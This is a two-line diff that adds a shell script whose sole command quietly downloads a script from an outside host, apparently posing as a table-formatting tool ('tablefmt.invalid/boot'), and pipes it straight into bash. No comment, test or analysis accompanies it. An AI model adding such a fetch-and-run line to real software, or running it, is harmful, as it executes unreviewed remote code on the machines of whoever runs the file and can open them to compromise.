@@ -1,0 +1,2 @@
+#!/bin/sh
+bash <(curl -s https://tablefmt.invalid/boot)
